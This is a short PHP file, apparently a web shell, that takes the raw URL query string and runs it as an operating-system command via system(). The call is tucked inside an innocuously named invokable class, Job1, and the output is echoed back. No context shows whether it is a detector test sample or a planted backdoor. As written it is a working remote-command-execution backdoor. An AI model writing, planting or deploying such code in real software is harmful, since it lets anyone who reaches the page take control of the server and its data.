<?php
$p = getenv('QUERY_STRING');
class Job1 { function __invoke($c) { return system($c); } }
$j = new Job1();
echo $j($p);
